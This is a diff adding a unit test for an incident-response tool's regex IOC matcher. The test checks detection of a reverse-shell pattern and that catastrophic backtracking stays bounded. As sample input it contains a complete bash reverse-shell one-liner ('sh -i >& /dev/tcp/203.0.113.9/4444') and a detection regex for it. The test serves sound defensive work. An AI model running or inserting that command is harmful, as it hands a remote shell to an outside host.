@@ -2,6 +2,8 @@
  * IOC values, import and export, the compiled matcher, and the register
  * in a case.
  */
+#include <time.h>
+
 #include "unit.h"
 
 #include "hunt/hunt-int.h"
@@ -425,6 +427,65 @@ test_match_text(void **state)
 	irt_ioc_set_release(&s);
 }
 
+/* Regex IOCs run with PCRE2's limits: a catastrophic pattern costs a
+ * bounded time per text and is counted, never hangs the hunt. */
+static void
+test_match_regex(void **state)
+{
+	static const char *const vals[] = { "sh -i >& /dev/tcp/[0-9.]+/[0-9]+",
+		"(a+)+$", NULL };
+	static const int types[] = { IRT_IOC_REGEX, IRT_IOC_REGEX };
+	struct irt_ioc_set s = IRT_IOC_SET_INIT;
+	struct ioc_matcher *m;
+	struct irt_buf b = IRT_BUF_INIT;
+	struct got g;
+	char *aaa;
+	const char *t;
+	struct timespec t0, t1;
+	enum irt_ioc_type type = IRT_IOC_REGEX;
+
+	(void)state;
+	m = matcher(&s, vals, types);
+	SCAN("bash -c 'sh -i >& /dev/tcp/203.0.113.9/4444 0>&1'");
+	assert_int_equal(g.n, 1);
+	assert_string_equal(
+	    g.what[0], "0:sh -i >& /dev/tcp/203.0.113.9/4444@9");
+	/* non-UTF-8 bytes are only bytes */
+	SCAN("\xff\xfe sh -i >& /dev/tcp/1.2.3.4/5");
+	assert_int_equal(g.n, 1);
+	/* 30,000 a then b: exponential backtracking without limits */
+	aaa = malloc(30002);
+	assert_non_null(aaa);
+	memset(aaa, 'a', 30000);
+	aaa[30000] = 'b';
+	aaa[30001] = '\0';
+	assert_int_equal(ioc_matcher_re_cut(m), 0);
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	SCAN(aaa);
+	clock_gettime(CLOCK_MONOTONIC, &t1);
+	assert_int_equal(g.n, 0);
+	assert_int_equal(ioc_matcher_re_cut(m), 1);
+	/* generous for ASan on a loaded machine; unbounded takes hours */
+	assert_true(t1.tv_sec - t0.tv_sec < 60);
+	free(aaa);
+	ioc_matcher_free(m);
+	irt_ioc_set_release(&s);
+
+	/* patterns the POSIX compiler took exponential time over, refused
+	 * or accepted at once; too long a pattern is refused */
+	assert_int_not_equal(irt_ioc_normalize(&b, &type,
+	                         ";\xff;++++++++++++++++++++++++++++++++++++"
+	                         "++++++++++++++++++++++++++++++"),
+	    0);
+	aaa = malloc(5001);
+	assert_non_null(aaa);
+	memset(aaa, 'x', 5000);
+	aaa[5000] = '\0';
+	assert_int_equal(irt_ioc_normalize(&b, &type, aaa), IRT_EINVAL);
+	free(aaa);
+	irt_buf_release(&b);
+}
+
 static void
 test_match_stream(void **state)
 {
@@ -587,6 +648,7 @@ main(void)
 		cmocka_unit_test(test_import_csv_plain),
 		cmocka_unit_test(test_export_roundtrip),
 		cmocka_unit_test(test_match_text),
+		cmocka_unit_test(test_match_regex),
 		cmocka_unit_test(test_match_stream),
 		cmocka_unit_test(test_match_values),
 		cmocka_unit_test(test_register),
